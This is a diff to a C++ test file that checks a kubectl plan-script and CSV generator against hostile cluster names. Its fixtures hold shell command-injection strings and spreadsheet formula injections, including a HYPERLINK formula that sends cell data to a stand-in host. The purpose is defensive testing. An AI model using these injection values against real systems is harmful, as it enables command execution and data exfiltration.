@@ -31,25 +31,25 @@ namespace {
 const QString kCluster = QStringLiteral(FLEET_TEST_DATA_DIR "/plan/cluster.json");
 const std::string kServer = "https://prod.example:6443";
 
-// Renamed nodes of tests/data/plan/cluster.json.
-const std::string kEvilNode = "cpu-a1\n$(touch \"$PWNED\")`touch \"$PWNED\"`';touch \"$PWNED\";\"\r\x1b[2K";
+// Renamed nodes of tests/data/plan/cluster.json. A cluster file's names cannot hold control
+// characters (the importers refuse them); newlines reach the script from plan files instead
+// (hostilePlan()).
+const std::string kEvilNode = "cpu-a1 $(touch \"$PWNED\")`touch \"$PWNED\"`';touch \"$PWNED\";\"";
 const std::string kDashNode = "--kubeconfig=/dev/null;touch \"$PWNED\"";
-const std::string kEvilDestination = "b1 $(touch \"$PWNED\")\n# ";
+const std::string kEvilDestination = "b1 $(touch \"$PWNED\") # ";
 // Renamed and added pods, all on kEvilNode: names that spreadsheets would run as formulas.
-const std::string kEvilNamespace = "ns\n$(touch \"$PWNED\")";
+const std::string kEvilNamespace = "ns;$(touch \"$PWNED\")";
 struct PodName {
     std::string namespaceName, name;
 };
 const std::vector<PodName> kEvilPods = {
-    { "default", "inject\ntouch \"$PWNED\" #" }, // web-7f9c-aaaaa
-    { "default", "`touch \"$PWNED\"`\n#" }, // web-7f9c-bbbbb
+    { "default", "inject;touch \"$PWNED\" #" }, // web-7f9c-aaaaa
+    { "default", "`touch \"$PWNED\"` #" }, // web-7f9c-bbbbb
     // copies of web-7f9c-bbbbb asking 100m
     { kEvilNamespace, "=HYPERLINK(\"http://evil.example/\"&A1)" },
     { "default", "+1" },
     { "default", "-2+3" },
     { "default", "@SUM(1)" },
-    { "default", "\tTab" },
-    { "default", "\rCR" },
     { "default", "semi;colon,comma\"quote" },
 };
 
@@ -294,7 +294,7 @@ void TstPlanScript::hostileNamesReachKubectlExactly()
     };
     QCOMPARE(r.calls, expected);
     // The comments still say where each pod is expected to go, escaped.
-    QVERIFY2(script.find("#   default/inject\\ntouch \"$PWNED\" # -> b1 $(touch \"$PWNED\")\\n# \n") != std::string::npos,
+    QVERIFY2(script.find("#   default/inject;touch \"$PWNED\" # -> b1 $(touch \"$PWNED\") # \n") != std::string::npos,
         script.c_str());
     QVERIFY2(script.find("# [2] move-pod x\\n$(touch \"$PWNED\")/=cmd|' /C calc'!A0 -> z\\ntouch \"$PWNED\": does not hold")
             != std::string::npos,
@@ -513,7 +513,8 @@ void TstPlanScript::csvNeutralisesFormulas()
     }
     for (const PodName& p : kEvilPods)
         QVERIFY2(pods.contains(neutral(p.namespaceName) + QLatin1Char('/') + neutral(p.name)), qPrintable(neutral(p.name)));
-    QVERIFY(pods.contains(qs("x\n$(touch \"$PWNED\")/'=cmd|' /C calc'!A0")));
+    // A control character from the plan is written as \xNN (it could end a row in a terminal).
+    QVERIFY(pods.contains(qs("x\\x0A$(touch \"$PWNED\")/'=cmd|' /C calc'!A0")));
     QVERIFY(nodes.contains(qs(kEvilNode)));
     QVERIFY(nodes.contains(qs("'" + kDashNode)));
     QVERIFY(nodes.contains(qs(kEvilDestination)));
